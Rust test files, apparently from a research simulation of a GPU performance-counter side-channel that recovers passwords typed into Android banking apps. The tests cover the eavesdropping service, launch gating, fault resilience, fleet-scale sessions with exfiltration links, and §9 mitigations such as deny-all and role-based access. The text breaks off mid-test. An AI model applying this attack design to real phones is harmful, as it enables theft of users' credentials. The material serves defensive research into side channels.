    let mut typist2 = typist.clone();
    let plan2 = typist2.type_text("xyz", t2 + SimDuration::from_millis(900), &mut rng);
    let end = plan2.end + SimDuration::from_millis(800);
    sim.queue_all(plan2.events);

    let result = service().eavesdrop(&mut sim, end).expect("stock policy");
    assert_eq!(result.switches, 2, "away + back bursts");
    assert_eq!(result.recovered_text, "abcxyz");
}

#[test]
fn notifications_do_not_fabricate_keys() {
    let mut sim = UiSimulation::new(quiet(3));
    let mut rng = StdRng::seed_from_u64(3);
    let mut typist = Typist::new(VOLUNTEERS[2]);
    let plan = typist.type_text("zz9", SimInstant::from_millis(900), &mut rng);
    for k in 0..5u64 {
        sim.queue(TimedEvent::new(SimInstant::from_millis(700 + k * 650), UiEvent::Notification));
    }
    let end = plan.end + SimDuration::from_millis(800);
    sim.queue_all(plan.events);

    let result = service().eavesdrop(&mut sim, end).expect("stock policy");
    assert_eq!(result.recovered_text, "zz9", "status-bar redraws are not key presses");
}

#[test]
fn shade_view_does_not_fabricate_switches_or_keys() {
    let mut sim = UiSimulation::new(quiet(4));
    let mut rng = StdRng::seed_from_u64(4);
    let mut typist = Typist::new(VOLUNTEERS[3]);
    let plan = typist.type_text("ab", SimInstant::from_millis(900), &mut rng);
    sim.queue(TimedEvent::new(
        plan.end + SimDuration::from_millis(400),
        UiEvent::ViewNotificationShade,
    ));
    let mut typist2 = typist.clone();
    let plan2 = typist2.type_text("cd", plan.end + SimDuration::from_millis(2_500), &mut rng);
    let end = plan2.end + SimDuration::from_millis(800);
    sim.queue_all(plan.events);
    sim.queue_all(plan2.events);

    let result = service().eavesdrop(&mut sim, end).expect("stock policy");
    assert_eq!(result.switches, 0, "a shade pull is one frame, not a burst");
    assert_eq!(result.recovered_text, "abcd");
}

#[test]
fn full_trace_variant_matches_or_beats_greedy_here() {
    let run = |full: bool| {
        let mut sim = UiSimulation::new(quiet(5));
        let mut rng = StdRng::seed_from_u64(5);
        let mut typist = Typist::new(VOLUNTEERS[1]);
        let plan = typist.type_text("qwertyuiop", SimInstant::from_millis(900), &mut rng);
        let end = plan.end + SimDuration::from_millis(800);
        sim.queue_all(plan.events);
        let cfg = ServiceConfig { full_trace: full, ..ServiceConfig::default() };
        let svc = {
            let base = SimConfig::paper_default(0);
            let model =
                Trainer::new(TrainerConfig::default()).train(base.device, base.keyboard, base.app);
            let mut store = ModelStore::new();
            store.add(model);
            AttackService::new(store, cfg)
        };
        let r = svc.eavesdrop(&mut sim, end).expect("stock policy");
        r.score(&sim).correct_keys
    };
    assert!(run(true) >= run(false));
}
