//! Streaming vs batch driver equivalence (the §5 pipeline refactor's
//! contract).
//!
//! [`AttackService::eavesdrop`] pushes each counter sample through the stage
//! pipeline the moment it is read; [`AttackService::eavesdrop_batch`]
//! materialises the whole trace first and runs the same stages as
//! whole-trace passes. On identically-seeded simulations the two must
//! produce byte-identical [`SessionResult`]s — including when the simulated
//! KGSL device is actively injecting faults mid-session, where retries and
//! abandoned read slots reshape the trace the stages see.

use adreno_sim::time::{SimDuration, SimInstant};
use gpu_eaves::android_ui::{SimConfig, UiSimulation};
use gpu_eaves::attack::offline::{ModelStore, Trainer, TrainerConfig};
use gpu_eaves::attack::service::{AttackService, ServiceConfig, ServiceError, SessionResult};
use gpu_eaves::input_bot::script::Typist;
use gpu_eaves::input_bot::timing::VOLUNTEERS;
use gpu_eaves::kgsl::FaultPlan;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn single_store() -> ModelStore {
    let cfg = SimConfig::paper_default(0);
    let mut store = ModelStore::new();
    store.add(Trainer::new(TrainerConfig::default()).train(cfg.device, cfg.keyboard, cfg.app));
    store
}

/// Runs one credential session through either driver. Everything that feeds
/// the simulation is derived from `seed`, so two calls with the same seed
/// observe identical victims.
fn run_session(
    store: &ModelStore,
    streaming: bool,
    full_trace: bool,
    seed: u64,
    faults: Option<&FaultPlan>,
) -> Result<SessionResult, ServiceError> {
    let mut sim = UiSimulation::new(SimConfig::paper_default(seed));
    let mut rng = StdRng::seed_from_u64(seed ^ 0x5EED);
    let mut typist = Typist::new(VOLUNTEERS[seed as usize % VOLUNTEERS.len()]);
    let plan = typist.type_text("hunter2pass", SimInstant::from_millis(900), &mut rng);
    let end = plan.end + SimDuration::from_millis(800);
    sim.queue_all(plan.events);
    if let Some(plan) = faults {
        sim.device().install_fault_plan(plan);
    }

    let config = ServiceConfig { full_trace, ..ServiceConfig::default() };
    let service = AttackService::new(store.clone(), config);
    if streaming {
        service.eavesdrop(&mut sim, end)
    } else {
        service.eavesdrop_batch(&mut sim, end)
    }
}

#[test]
fn streaming_matches_batch_on_clean_sessions() {
    let store = single_store();
    for full_trace in [false, true] {
        for seed in [60u64, 61, 62] {
            let streamed = run_session(&store, true, full_trace, seed, None);
            let batched = run_session(&store, false, full_trace, seed, None);
            assert_eq!(
                streamed, batched,
                "drivers diverged (seed {seed}, full_trace {full_trace})"
            );
            // Guard against vacuous equality: clean sessions must actually
            // recognise the device and recover text.
            let result = streamed.expect("clean session must succeed");
            assert!(
                !result.recovered_text.is_empty(),
                "clean session recovered nothing (seed {seed}, full_trace {full_trace})"
            );
        }
    }
}

#[test]
fn streaming_matches_batch_under_live_faults() {
    let store = single_store();
    let mut succeeded = 0usize;
    for full_trace in [false, true] {
        for (seed, intensity) in [(70u64, 0.3), (71, 0.6)] {
            let plan = FaultPlan::with_intensity(seed ^ 0xFA, intensity, SimDuration::from_secs(8));
            let streamed = run_session(&store, true, full_trace, seed, Some(&plan));
            let batched = run_session(&store, false, full_trace, seed, Some(&plan));
            assert_eq!(
                streamed, batched,
                "drivers diverged under faults (seed {seed}, intensity {intensity}, \
                 full_trace {full_trace})"
            );
            succeeded += usize::from(streamed.is_ok());
        }
    }
    // A fault plan may legitimately kill a session (both drivers then fail
    // identically), but if every scenario failed the test proves nothing.
    assert!(succeeded > 0, "at least one faulted session should still recover text");
}
