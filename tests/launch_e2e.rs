//! §3.2 launch gating: the attacking service arms itself only when the
//! target app launches, ignoring everything the victim did before.

use adreno_sim::time::{SimDuration, SimInstant};
use gpu_eaves::android_ui::{SimConfig, TimedEvent, UiEvent, UiSimulation};
use gpu_eaves::attack::offline::{ModelStore, Trainer, TrainerConfig};
use gpu_eaves::attack::service::{AttackService, ServiceConfig, ServiceError};
use gpu_eaves::input_bot::script::Typist;
use gpu_eaves::input_bot::timing::VOLUNTEERS;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn service(require_launch: bool) -> AttackService {
    let cfg = SimConfig::paper_default(0);
    let model = Trainer::new(TrainerConfig::default()).train(cfg.device, cfg.keyboard, cfg.app);
    let mut store = ModelStore::new();
    store.add(model);
    AttackService::new(store, ServiceConfig { require_launch, ..ServiceConfig::default() })
}

fn pre_launch_session(seed: u64) -> (UiSimulation, SimInstant) {
    // The victim browses another app, then opens the banking app at 3 s and
    // types the credential.
    let cfg =
        SimConfig { start_in_other: true, system_noise_hz: 0.0, ..SimConfig::paper_default(seed) };
    let mut sim = UiSimulation::new(cfg);
    for ms in (400..2_600).step_by(450) {
        sim.queue(TimedEvent::new(SimInstant::from_millis(ms), UiEvent::OtherAppActivity));
    }
    sim.queue(TimedEvent::new(SimInstant::from_millis(3_000), UiEvent::LaunchTargetApp));
    let mut rng = StdRng::seed_from_u64(seed);
    let mut typist = Typist::new(VOLUNTEERS[1]);
    let plan = typist.type_text("openbanking1", SimInstant::from_millis(4_000), &mut rng);
    let end = plan.end + SimDuration::from_millis(800);
    sim.queue_all(plan.events);
    (sim, end)
}

#[test]
fn launch_gated_service_recovers_the_post_launch_credential() {
    let (mut sim, end) = pre_launch_session(60);
    let result = service(true).eavesdrop(&mut sim, end).expect("stock policy");
    let launch = result.launch_at.expect("launch must be detected");
    assert!(
        launch >= SimInstant::from_millis(3_000) && launch <= SimInstant::from_millis(3_100),
        "launch detected at {launch}, expected ≈3.0s"
    );
    assert_eq!(result.recovered_text, "openbanking1");
}

#[test]
fn launch_gate_fails_cleanly_when_the_app_never_launches() {
    let cfg =
        SimConfig { start_in_other: true, system_noise_hz: 0.0, ..SimConfig::paper_default(61) };
    let mut sim = UiSimulation::new(cfg);
    for ms in (400..4_000).step_by(500) {
        sim.queue(TimedEvent::new(SimInstant::from_millis(ms), UiEvent::OtherAppActivity));
    }
    // Device recognition needs at least one keyboard-window redraw, which
    // never happens here, so either failure mode is a dead attack.
    let err = service(true).eavesdrop(&mut sim, SimInstant::from_millis(5_000)).unwrap_err();
    assert!(
        matches!(err, ServiceError::LaunchNotDetected | ServiceError::UnrecognisedDevice),
        "got {err}"
    );
}

#[test]
fn ungated_service_still_works_on_launch_sessions() {
    let (mut sim, end) = pre_launch_session(62);
    let result = service(false).eavesdrop(&mut sim, end).expect("stock policy");
    assert_eq!(result.launch_at, None);
    assert_eq!(result.recovered_text, "openbanking1");
}
