//! End-to-end tests of every §9 mitigation against the full attack.

use adreno_sim::time::{SimDuration, SimInstant};
use gpu_eaves::android_ui::{SimConfig, TargetApp, UiSimulation};
use gpu_eaves::attack::offline::{ModelStore, Trainer, TrainerConfig};
use gpu_eaves::attack::service::{AttackService, ServiceConfig, ServiceError};
use gpu_eaves::input_bot::script::Typist;
use gpu_eaves::input_bot::timing::VOLUNTEERS;
use gpu_eaves::kgsl::{AccessPolicy, Errno, ObfuscationConfig, SelinuxDomain};
use rand::rngs::StdRng;
use rand::SeedableRng;

const SECRET: &str = "hunter2pass";

fn store() -> ModelStore {
    let cfg = SimConfig::paper_default(0);
    let model = Trainer::new(TrainerConfig::default()).train(cfg.device, cfg.keyboard, cfg.app);
    let mut s = ModelStore::new();
    s.add(model);
    s
}

fn victim(cfg: SimConfig, seed: u64) -> (UiSimulation, SimInstant) {
    let mut sim = UiSimulation::new(cfg);
    let mut rng = StdRng::seed_from_u64(seed);
    let mut typist = Typist::new(VOLUNTEERS[1]);
    let plan = typist.type_text(SECRET, SimInstant::from_millis(900), &mut rng);
    let end = plan.end + SimDuration::from_millis(800);
    sim.queue_all(plan.events);
    (sim, end)
}

#[test]
fn stock_android_leaks_the_credential() {
    let (mut sim, end) =
        victim(SimConfig { system_noise_hz: 0.0, ..SimConfig::paper_default(1) }, 1);
    let service = AttackService::new(store(), ServiceConfig::default());
    let result = service.eavesdrop(&mut sim, end).expect("stock policy");
    assert_eq!(result.recovered_text, SECRET);
}

#[test]
fn deny_all_policy_blocks_the_attack_entirely() {
    let (mut sim, end) = victim(SimConfig::paper_default(2), 2);
    sim.device().set_policy(AccessPolicy::DenyAll);
    let service = AttackService::new(store(), ServiceConfig::default());
    let err = service.eavesdrop(&mut sim, end).unwrap_err();
    assert_eq!(err, ServiceError::Device(Errno::Eacces));
}

#[test]
fn rbac_starves_the_attacker_but_not_the_profiler() {
    let (mut sim, end) = victim(SimConfig::paper_default(3), 3);
    sim.device().set_policy(AccessPolicy::role_based([SelinuxDomain::GpuProfiler]));
    let service = AttackService::new(store(), ServiceConfig::default());
    // The sampler opens and reads fine, but the local view never moves, so
    // device recognition finds nothing.
    let err = service.eavesdrop(&mut sim, end).unwrap_err();
    assert_eq!(err, ServiceError::UnrecognisedDevice);
}

#[test]
fn disabling_popups_kills_per_key_recovery() {
    let cfg =
        SimConfig { popups_enabled: false, system_noise_hz: 0.0, ..SimConfig::paper_default(4) };
    let (mut sim, end) = victim(cfg, 4);
    let service = AttackService::new(store(), ServiceConfig::default());
    match service.eavesdrop(&mut sim, end) {
        Ok(result) => {
            let score = result.score(&sim);
            assert_eq!(score.correct_keys, 0, "no popups → no per-key inference");
        }
        // Without keyboard redraws, even device recognition may fail — an
        // equally dead attack.
        Err(e) => assert_eq!(e, ServiceError::UnrecognisedDevice),
    }
}

#[test]
fn heavy_obfuscation_collapses_accuracy() {
    let cfg = SimConfig {
        obfuscation: Some(ObfuscationConfig::popup_sized(80.0)),
        system_noise_hz: 0.0,
        ..SimConfig::paper_default(5)
    };
    let (mut sim, end) = victim(cfg, 5);
    let service = AttackService::new(store(), ServiceConfig::default());
    let result = service.eavesdrop(&mut sim, end).expect("reads still allowed");
    let score = result.score(&sim);
    assert!(
        score.key_accuracy() < 0.75,
        "80 decoys/s must hurt badly, got {:.2}",
        score.key_accuracy()
    );
}

#[test]
fn pnc_animation_acts_as_accidental_obfuscation() {
    let cfg =
        SimConfig { app: TargetApp::Pnc, system_noise_hz: 0.0, ..SimConfig::paper_default(6) };
    let (mut sim, end) = victim(cfg, 6);
    let service = AttackService::new(store(), ServiceConfig::default());
    let result = service.eavesdrop(&mut sim, end).expect("reads allowed");
    let score = result.score(&sim);
    assert!(
        score.key_accuracy() < 0.7,
        "the animated login must degrade accuracy (paper: 30.2%), got {:.2}",
        score.key_accuracy()
    );
    assert!(!score.text_exact);
}

#[test]
fn mid_session_policy_change_stops_the_stream() {
    // Install the mitigation *after* the attack already started sampling.
    // The resilient sampler keeps trying (the policy might flip back), but a
    // span in which every read is denied yields nothing — and a span with
    // zero acquired samples reports the denial instead of an empty trace.
    let (mut sim, _) = victim(SimConfig::paper_default(7), 7);
    let device = std::sync::Arc::clone(sim.device());
    let mut sampler = gpu_eaves::attack::Sampler::open(
        sim.device(),
        gpu_eaves::attack::SamplerConfig::default_8ms(),
    )
    .unwrap();
    sampler.sample_until(&mut sim, SimInstant::from_millis(300)).unwrap();
    device.set_policy(AccessPolicy::DenyAll);
    let err = sampler.sample_until(&mut sim, SimInstant::from_millis(600)).unwrap_err();
    assert_eq!(err, Errno::Eacces);
    assert!(sampler.report().denied_reads > 0, "every slot was denied and recorded");
}

#[test]
fn policy_flip_and_back_yields_a_partial_stream() {
    // If the denial is temporary, the resilient sampler must ride it out:
    // the session degrades (a gap in the trace) instead of dying.
    let (mut sim, _) = victim(SimConfig::paper_default(8), 8);
    let device = std::sync::Arc::clone(sim.device());
    let mut sampler = gpu_eaves::attack::Sampler::open(
        sim.device(),
        gpu_eaves::attack::SamplerConfig::default_8ms(),
    )
    .unwrap();
    sampler.sample_until(&mut sim, SimInstant::from_millis(200)).unwrap();
    device.set_policy(AccessPolicy::DenyAll);
    sampler.sample_until(&mut sim, SimInstant::from_millis(400)).unwrap_err();
    device.set_policy(AccessPolicy::default());
    // The same sampler keeps working once access returns.
    let trace = sampler.sample_until(&mut sim, SimInstant::from_millis(600)).unwrap();
    assert!(!trace.is_empty(), "stream resumes after the policy flips back");
    let report = sampler.report();
    assert!(report.denied_reads > 0);
    assert!(report.coverage() < 1.0, "the denied span must show up as lost coverage");
}
