//! The fleet orchestrator's contracts, end to end with trained models:
//!
//! * **Determinism** — a mixed fleet (local sessions under live fault
//!   plans, split sessions over live lossy link plans) produces
//!   byte-identical outcome vectors at any worker count.
//! * **Equivalence** — a fleet-scheduled session recovers exactly what
//!   [`AttackService::eavesdrop`] recovers on the same seeded victim; the
//!   cooperative quantum decomposition changes scheduling, never results.
//! * **Starvation-freedom** — one pathological session (a sampling horizon
//!   an order of magnitude past everyone else's) finishes last: every
//!   other session completes while it is still being cycled through the
//!   ring run queue, so it can never stall a shard.
//! * **Incremental-rendering isolation** — each session's per-viewport
//!   frame-delta renderers ([`adreno_sim::incremental`]) are state owned by
//!   that session's GPU, so the reuse machinery engages under concurrent
//!   scheduling while session results stay bit-identical at any `--jobs`.

use std::sync::{Arc, Mutex};

use adreno_sim::time::{SimDuration, SimInstant};
use gpu_eaves::android_ui::{SimConfig, UiSimulation};
use gpu_eaves::attack::fleet::{run_sessions, FleetConfig, FleetSession, Session, SessionOutcome};
use gpu_eaves::attack::offline::{ModelStore, Trainer, TrainerConfig};
use gpu_eaves::attack::service::{AttackService, ServiceConfig};
use gpu_eaves::input_bot::script::Typist;
use gpu_eaves::input_bot::timing::VOLUNTEERS;
use gpu_eaves::kgsl::FaultPlan;
use gpu_eaves::minipool::Pool;
use gpu_eaves::wire::{ExfilConfig, LinkPlan, SplitSessionOutcome, SplitSessionTask};
use rand::rngs::StdRng;
use rand::SeedableRng;

fn single_store() -> ModelStore {
    let cfg = SimConfig::paper_default(0);
    let mut store = ModelStore::new();
    store.add(Trainer::new(TrainerConfig::default()).train(cfg.device, cfg.keyboard, cfg.app));
    store
}

/// A seeded victim typing one credential.
fn victim(seed: u64, text: &str) -> (UiSimulation, SimInstant) {
    let mut sim = UiSimulation::new(SimConfig::paper_default(seed));
    let mut rng = StdRng::seed_from_u64(seed ^ 0x5EED);
    let mut typist = Typist::new(VOLUNTEERS[seed as usize % VOLUNTEERS.len()]);
    let plan = typist.type_text(text, SimInstant::from_millis(900), &mut rng);
    let end = plan.end + SimDuration::from_millis(800);
    sim.queue_all(plan.events);
    (sim, end)
}

/// A local or split fleet task, as the bench experiment mixes them.
/// Boxed: each owns a whole `UiSimulation`.
enum Mixed<'s> {
    Local(Box<FleetSession<'s>>),
    Split(Box<SplitSessionTask<'s>>),
}

#[derive(Debug, PartialEq)]
enum MixedOutcome {
    Local(SessionOutcome),
    Split(SplitSessionOutcome),
}

impl Session for Mixed<'_> {
    type Outcome = MixedOutcome;

    fn step(&mut self) -> Option<MixedOutcome> {
        match self {
            Mixed::Local(s) => s.step().map(MixedOutcome::Local),
            Mixed::Split(s) => s.step().map(MixedOutcome::Split),
        }
    }
}

/// Builds the 9-session mixed fleet: every third session split over a
/// lossy wire, local sessions alternating clean / heavily faulted.
fn mixed_fleet<'s>(service: &'s AttackService, config: &FleetConfig) -> Vec<Mixed<'s>> {
    let horizon = SimDuration::from_secs(8);
    (0..9u64)
        .map(|i| {
            let (sim, end) = victim(60 + i, "hunter2pass");
            let shard = (i % 2) as usize;
            if i % 3 == 2 {
                let link = LinkPlan::with_intensity(i, 0.6, horizon);
                Mixed::Split(Box::new(SplitSessionTask::new(
                    shard,
                    service,
                    sim,
                    end,
                    &link,
                    ExfilConfig::default(),
                )))
            } else {
                if i % 2 == 1 {
                    sim.device().install_fault_plan(&FaultPlan::with_intensity(i, 0.9, horizon));
                }
                Mixed::Local(Box::new(FleetSession::new(shard, service, sim, end, config)))
            }
        })
        .collect()
}

#[test]
fn mixed_fleet_outcomes_identical_at_any_worker_count() {
    let store = single_store();
    let service = AttackService::new(store, ServiceConfig::default());
    let config = FleetConfig { ring_capacity: 16, classify_quantum: 16, ..FleetConfig::default() };
    let run = |jobs: usize| run_sessions(&Pool::new(jobs), mixed_fleet(&service, &config));
    let seq = run(1);
    let par = run(4);
    assert_eq!(seq.len(), 9);
    assert_eq!(seq, par, "fleet outcomes must not depend on worker count");
    // Non-vacuous: sessions completed and the plans were live.
    for (i, out) in seq.iter().enumerate() {
        match out {
            MixedOutcome::Local(o) => {
                let result = o.result.as_ref().expect("local session completes");
                assert!(!result.recovered_text.is_empty(), "session {i} recovered nothing");
                if i % 2 == 1 {
                    assert!(!result.degradation.is_clean(), "session {i}'s fault plan never fired");
                }
            }
            MixedOutcome::Split(o) => {
                let split = o.outcome.as_ref().expect("split session completes");
                assert!(
                    !split.result.link.is_clean(),
                    "session {i}'s 0.6-intensity link plan left no trace"
                );
                assert!(!split.result.recovered_text.is_empty(), "session {i} recovered nothing");
            }
        }
    }
}

#[test]
fn fleet_session_matches_eavesdrop() {
    let store = single_store();
    let service = AttackService::new(store, ServiceConfig::default());
    for seed in [70u64, 71] {
        // Both runs see the same seeded victim and the same fault plan.
        let plan = FaultPlan::with_intensity(seed, 0.7, SimDuration::from_secs(8));
        let (mut sim, end) = victim(seed, "hunter2pass");
        sim.device().install_fault_plan(&plan);
        let direct = service.eavesdrop(&mut sim, end).expect("in-process session");

        let (sim, end) = victim(seed, "hunter2pass");
        sim.device().install_fault_plan(&plan);
        let mut session = FleetSession::new(0, &service, sim, end, &FleetConfig::default());
        let outcome = loop {
            if let Some(out) = session.step() {
                break out;
            }
        };
        let fleet_result = outcome.result.expect("fleet session completes");
        assert_eq!(fleet_result, direct, "quantum decomposition changed the result (seed {seed})");
        assert!(!direct.recovered_text.is_empty(), "vacuous equivalence (seed {seed})");
    }
}

/// Reuse probe: captures a session's incremental-renderer counters at the
/// step that finishes it (the session still owns its simulation then).
struct ReuseProbe<'s> {
    inner: FleetSession<'s>,
    index: usize,
    stats: Arc<Mutex<Vec<adreno_sim::incremental::IncrementalStats>>>,
}

impl Session for ReuseProbe<'_> {
    type Outcome = SessionOutcome;

    fn step(&mut self) -> Option<SessionOutcome> {
        let done = self.inner.step();
        if done.is_some() {
            self.stats.lock().unwrap()[self.index] = self.inner.incremental_stats();
        }
        done
    }
}

#[test]
fn incremental_rendering_keeps_results_bit_identical_across_jobs() {
    let store = single_store();
    let service = AttackService::new(store, ServiceConfig::default());
    let config = FleetConfig::default();
    const SESSIONS: u64 = 4;
    let run = |jobs: usize| {
        let stats = Arc::new(Mutex::new(vec![
            adreno_sim::incremental::IncrementalStats::default();
            SESSIONS as usize
        ]));
        let tasks: Vec<ReuseProbe<'_>> = (0..SESSIONS)
            .map(|i| {
                let (sim, end) = victim(90 + i, "hunter2pass");
                ReuseProbe {
                    inner: FleetSession::new(0, &service, sim, end, &config),
                    index: i as usize,
                    stats: Arc::clone(&stats),
                }
            })
            .collect();
        let outcomes = run_sessions(&Pool::new(jobs), tasks);
        let stats = stats.lock().unwrap().clone();
        (outcomes, stats)
    };

    let (seq, seq_stats) = run(1);
    let (par, par_stats) = run(4);
    assert_eq!(seq, par, "per-session incremental rendering must not depend on worker count");
    for (i, out) in seq.iter().enumerate() {
        let result = out.result.as_ref().expect("session completes");
        assert!(!result.recovered_text.is_empty(), "session {i} recovered nothing");
    }
    // Frame submission is sim-deterministic, so every session renders the
    // same number of frames at any worker count. The *reuse-path* counters
    // (identical vs diffed) may legitimately shift with jobs: the
    // process-global whole-list cache is shared across concurrently-running
    // sessions, and which session renders a recurring frame first is a
    // scheduling artefact — results are fingerprint-validated either way.
    for (i, (a, b)) in seq_stats.iter().zip(&par_stats).enumerate() {
        assert!(a.frames > 0, "session {i} never rendered incrementally: {a:?}");
        assert_eq!(a.frames, b.frames, "session {i} frame count depends on jobs");
        assert!(
            a.identical_frames + a.layers_reused > 0,
            "session {i}'s frame stream shows no reuse: {a:?}"
        );
    }
}

/// Completion-order probe: records when each session finished.
struct Tracked<'s> {
    inner: FleetSession<'s>,
    index: usize,
    order: Arc<Mutex<Vec<usize>>>,
}

impl Session for Tracked<'_> {
    type Outcome = SessionOutcome;

    fn step(&mut self) -> Option<SessionOutcome> {
        let done = self.inner.step();
        if done.is_some() {
            self.order.lock().unwrap().push(self.index);
        }
        done
    }
}

#[test]
fn pathological_session_cannot_starve_the_fleet() {
    let store = single_store();
    let service = AttackService::new(store, ServiceConfig::default());
    let config = FleetConfig::default();
    let order = Arc::new(Mutex::new(Vec::new()));
    // FIFO ring scheduling: every short session completes while the
    // 30-second session is still being cycled, at any worker count.
    for jobs in [1usize, 2] {
        order.lock().unwrap().clear();
        // Session 0 samples for 30 simulated seconds; the rest are ordinary
        // ~3-second credential sessions. Rebuilt each round: runs consume them.
        let tasks: Vec<Tracked<'_>> = (0..5u64)
            .map(|i| {
                let (sim, end) = victim(80 + i, "hunter2pass");
                let until = if i == 0 { SimInstant::from_millis(30_000) } else { end };
                Tracked {
                    inner: FleetSession::new(0, &service, sim, until, &config),
                    index: i as usize,
                    order: Arc::clone(&order),
                }
            })
            .collect();
        let outcomes = run_sessions(&Pool::new(jobs), tasks);
        assert_eq!(outcomes.len(), 5);
        let finished = order.lock().unwrap().clone();
        assert_eq!(
            finished.last(),
            Some(&0),
            "the pathological session must finish last (jobs={jobs}): {finished:?}"
        );
        assert!(
            outcomes[0].stats.quanta > outcomes[1].stats.quanta * 2,
            "session 0 should need far more quanta: {} vs {}",
            outcomes[0].stats.quanta,
            outcomes[1].stats.quanta
        );
    }
}
