//! End-to-end tests of the fault-injection layer against the full attack:
//! the service must degrade gracefully — partial results with an honest
//! [`DegradationReport`], never a panic, and an `Err` only when it acquired
//! nothing at all — and the whole fault schedule must be deterministic.

use adreno_sim::time::{SimDuration, SimInstant};
use gpu_eaves::android_ui::{SimConfig, UiSimulation};
use gpu_eaves::attack::offline::{ModelStore, Trainer, TrainerConfig};
use gpu_eaves::attack::service::{AttackService, ServiceConfig, SessionResult};
use gpu_eaves::input_bot::script::Typist;
use gpu_eaves::input_bot::timing::VOLUNTEERS;
use gpu_eaves::kgsl::fault::FaultEvent;
use gpu_eaves::kgsl::FaultPlan;
use rand::rngs::StdRng;
use rand::SeedableRng;

const SECRET: &str = "hunter2pass";

fn store() -> ModelStore {
    let cfg = SimConfig::paper_default(0);
    let model = Trainer::new(TrainerConfig::default()).train(cfg.device, cfg.keyboard, cfg.app);
    let mut s = ModelStore::new();
    s.add(model);
    s
}

fn victim(seed: u64) -> (UiSimulation, SimInstant) {
    let cfg = SimConfig { system_noise_hz: 0.0, ..SimConfig::paper_default(seed) };
    let mut sim = UiSimulation::new(cfg);
    let mut rng = StdRng::seed_from_u64(seed);
    let mut typist = Typist::new(VOLUNTEERS[1]);
    let plan = typist.type_text(SECRET, SimInstant::from_millis(900), &mut rng);
    let end = plan.end + SimDuration::from_millis(800);
    sim.queue_all(plan.events);
    (sim, end)
}

fn eavesdrop(seed: u64, plan: Option<&FaultPlan>) -> SessionResult {
    let (mut sim, end) = victim(seed);
    if let Some(plan) = plan {
        sim.device().install_fault_plan(plan);
    }
    let service = AttackService::new(store(), ServiceConfig::default());
    service.eavesdrop(&mut sim, end).expect("session must survive")
}

#[test]
fn null_fault_plan_is_bit_for_bit_the_baseline() {
    let baseline = eavesdrop(1, None);
    let nulled = eavesdrop(1, Some(&FaultPlan::new(99)));
    assert_eq!(baseline.recovered_text, SECRET);
    assert_eq!(nulled.recovered_text, baseline.recovered_text);
    assert_eq!(nulled.keys_before_corrections, baseline.keys_before_corrections);
    assert!(baseline.degradation.is_clean());
    assert!(nulled.degradation.is_clean());
    assert_eq!(nulled.degradation, baseline.degradation);
}

#[test]
fn moderate_faults_degrade_instead_of_failing() {
    let (_, end) = victim(2);
    let horizon = end.saturating_since(SimInstant::ZERO);
    let plan = FaultPlan::with_intensity(7, 0.35, horizon);
    let result = eavesdrop(2, Some(&plan));
    let d = result.degradation;
    assert!(d.faults_seen > 0, "the plan must actually fire: {d}");
    assert!(!d.is_clean());
    assert!(d.coverage > 0.5, "retries keep most of the trace: {d}");
    assert!(
        !result.keys_before_corrections.is_empty(),
        "a moderately faulty session still infers keys"
    );
}

#[test]
fn same_fault_seed_recovers_the_same_text() {
    let (_, end) = victim(3);
    let horizon = end.saturating_since(SimInstant::ZERO);
    let plan = FaultPlan::with_intensity(11, 0.4, horizon);
    let a = eavesdrop(3, Some(&plan));
    let b = eavesdrop(3, Some(&plan));
    assert_eq!(a.recovered_text, b.recovered_text);
    assert_eq!(a.keys_before_corrections, b.keys_before_corrections);
    assert_eq!(a.degradation, b.degradation);

    // A different fault seed perturbs the schedule (sanity: the plan is
    // doing something seed-dependent).
    let other = FaultPlan::with_intensity(12, 0.4, horizon);
    let c = eavesdrop(3, Some(&other));
    assert_ne!(a.degradation, c.degradation);
}

#[test]
fn mid_session_slumber_is_reanchored_not_misread() {
    // One GPU power-collapse right in the middle of the typing burst.
    let plan = FaultPlan::new(0).at(SimInstant::from_millis(2_500), FaultEvent::Slumber);
    let result = eavesdrop(4, Some(&plan));
    let d = result.degradation;
    assert!(d.reservations_reacquired >= 1, "sampler re-reserved after the slumber: {d}");
    assert!(d.counter_resets >= 1, "the backward jump was detected and re-anchored: {d}");
    let score_floor = result.keys_before_corrections.len();
    assert!(score_floor >= SECRET.len() / 2, "most keys survive one slumber, got {score_floor}");
}

#[test]
fn mid_session_revocation_is_survived_by_reopening() {
    let plan = FaultPlan::new(0).at(SimInstant::from_millis(2_500), FaultEvent::RevokeFds);
    let result = eavesdrop(5, Some(&plan));
    let d = result.degradation;
    assert!(d.fd_reopens >= 1, "sampler reopened the device file: {d}");
    assert!(
        result.keys_before_corrections.len() >= SECRET.len() / 2,
        "most keys survive one revocation"
    );
}

#[test]
fn a_storm_of_faults_never_panics() {
    // Worst-case intensity: the result may be garbage, but the service must
    // return *something* (or a clean error) rather than crash.
    let (mut sim, end) = victim(6);
    let horizon = end.saturating_since(SimInstant::ZERO);
    sim.device().install_fault_plan(&FaultPlan::with_intensity(13, 1.0, horizon));
    let service = AttackService::new(store(), ServiceConfig::default());
    match service.eavesdrop(&mut sim, end) {
        Ok(result) => {
            assert!(result.degradation.faults_seen > 0);
            assert!(result.degradation.coverage <= 1.0);
        }
        Err(err) => {
            // Acceptable only as the documented "nothing acquired" /
            // "nothing recognisable" outcomes.
            use gpu_eaves::attack::service::ServiceError;
            assert!(matches!(err, ServiceError::Device(_) | ServiceError::UnrecognisedDevice));
        }
    }
}
