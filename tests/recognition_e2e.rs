//! Device recognition (§3.2): a store with many configurations must pick
//! the model matching the victim's device from counter changes alone.

use adreno_sim::time::{SimDuration, SimInstant};
use gpu_eaves::android_ui::{
    DeviceConfig, KeyboardKind, PhoneModel, SimConfig, TargetApp, UiSimulation,
};
use gpu_eaves::attack::offline::{ModelStore, Trainer, TrainerConfig};
use gpu_eaves::attack::service::{AttackService, ServiceConfig};
use gpu_eaves::input_bot::script::Typist;
use gpu_eaves::input_bot::timing::VOLUNTEERS;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn multi_store() -> ModelStore {
    let trainer = Trainer::new(TrainerConfig::default());
    let mut store = ModelStore::new();
    for phone in [PhoneModel::OnePlus8Pro, PhoneModel::GalaxyS21, PhoneModel::GooglePixel2] {
        for keyboard in [KeyboardKind::Gboard, KeyboardKind::Swift] {
            store.add(trainer.train(DeviceConfig::for_phone(phone), keyboard, TargetApp::Chase));
        }
    }
    store
}

#[test]
fn recognizes_each_configuration_and_recovers_the_text() {
    let store = multi_store();
    for (i, (phone, keyboard)) in [
        (PhoneModel::GalaxyS21, KeyboardKind::Gboard),
